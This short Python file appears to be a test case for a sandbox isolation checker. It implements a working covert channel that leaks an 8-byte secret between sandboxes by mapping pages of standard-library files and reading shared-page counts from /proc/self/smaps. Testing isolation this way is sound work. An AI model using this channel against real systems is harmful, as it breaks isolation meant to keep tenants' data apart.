"""hold pages of files; /proc tells of each page how many hold it

Breach: another sandbox sees which are held. Runs with ctypes.
"""

import ctypes
import os
import re

VERDICT = "AC RTE"
RUNTIME = "peers"
CONTROL = True
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p


def hold(bits: int) -> None:
    folder = os.path.dirname(os.__file__)
    for index, name in enumerate(sorted(name for name in os.listdir(folder) if name.endswith(".py"))[:64]):
        if bits >> index & 1:
            file = os.open(f"{folder}/{name}", os.O_RDONLY)
            assert ctypes.c_ubyte.from_address(libc.mmap(None, 4096, 1, 1, file, 0)).value < 256
            os.close(file)


def leave(secret: bytes) -> bytes:
    hold(int.from_bytes(secret, "big"))
    return b""


def find(blob: bytes) -> bytes:
    hold((1 << 64) - 1)
    with open("/proc/self/smaps") as file:
        shares = re.findall(r"(\S+\.py)\n(?:.+\n)*?Pss: +(\d+)", file.read())
    return sum((share != "4") << index for index, (_, share) in enumerate(sorted(shares))).to_bytes(8, "big")
